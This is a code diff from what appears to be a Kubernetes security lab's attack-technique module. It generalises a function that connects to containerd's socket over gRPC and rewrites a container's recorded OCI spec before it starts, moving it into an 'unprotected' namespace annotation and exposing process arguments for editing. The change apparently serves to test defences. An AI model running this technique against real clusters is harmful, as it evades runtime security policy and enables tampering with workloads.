@@ -66,8 +66,18 @@ const ATTACKER_API = fromJSON(
 
 type ContainerMessage = { container?: { id?: string; spec?: { typeUrl?: string; value?: Buffer } } };
 
-/** Rewrites the namespace annotation in containerd's record of `id`; the namespace it named before. */
-async function updateRecordNamespace(socket: string, id: string, to: string): Promise<string | undefined> {
+/** An OCI spec as the attacker edits it. */
+export interface EditableSpec {
+  annotations?: Record<string, string>;
+  process?: { args?: string[] };
+}
+
+/**
+ * Rewrites the OCI spec in containerd's record of container `id` (k8s.io)
+ * with `edit`, through Containers.Update on containerd's socket; what `edit`
+ * returns (the attacker's evidence).
+ */
+export async function updateRecordedSpec<T>(socket: string, id: string, edit: (spec: EditableSpec) => T): Promise<T> {
   const loaded = grpc.loadPackageDefinition(ATTACKER_API) as unknown as { containerd: { services: { containers: { v1: { Containers: grpc.ServiceClientConstructor } } } } };
   const client = new loaded.containerd.services.containers.v1.Containers(`unix://${socket}`, grpc.credentials.createInsecure()) as unknown as grpc.Client &
     Record<'Get' | 'Update', (req: unknown, md: grpc.Metadata, opts: grpc.CallOptions, cb: (err: grpc.ServiceError | null, res?: ContainerMessage) => void) => void>;
@@ -81,11 +91,10 @@ async function updateRecordNamespace(socket: string, id: string, to: string): Pr
     const got = await call('Get', { id });
     const any = got.container?.spec;
     if (!any?.value) throw new LabError<AttackErrorCode>('ATTACK_FAILED', `containerd's record of ${id} holds no spec`);
-    const spec = JSON.parse(any.value.toString('utf8')) as { annotations?: Record<string, string> };
-    const before = spec.annotations?.[NAMESPACE_ANNOTATION];
-    spec.annotations = { ...spec.annotations, [NAMESPACE_ANNOTATION]: to };
+    const spec = JSON.parse(any.value.toString('utf8')) as EditableSpec;
+    const result = edit(spec);
     await call('Update', { container: { id, spec: { typeUrl: any.typeUrl, value: Buffer.from(JSON.stringify(spec)) } }, updateMask: { paths: ['spec'] } });
-    return before;
+    return result;
   } finally {
     client.close();
   }
@@ -100,7 +109,12 @@ export const containerdRecordUpdate: Technique = {
     const updated: { container: string; before?: string; after: string }[] = [];
     const start = await tryStart(node, workload, pods, {
       beforeStart: async (id) => {
-        updated.push({ container: id, before: await updateRecordNamespace(socket, id, UNPROTECTED), after: UNPROTECTED });
+        const before = await updateRecordedSpec(socket, id, (spec) => {
+          const was = spec.annotations?.[NAMESPACE_ANNOTATION];
+          spec.annotations = { ...spec.annotations, [NAMESPACE_ANNOTATION]: UNPROTECTED };
+          return was;
+        });
+        updated.push({ container: id, before, after: UNPROTECTED });
       },
     });
     const evidence: Record<string, unknown> = { containerdSocket: socket, recordsUpdated: updated };
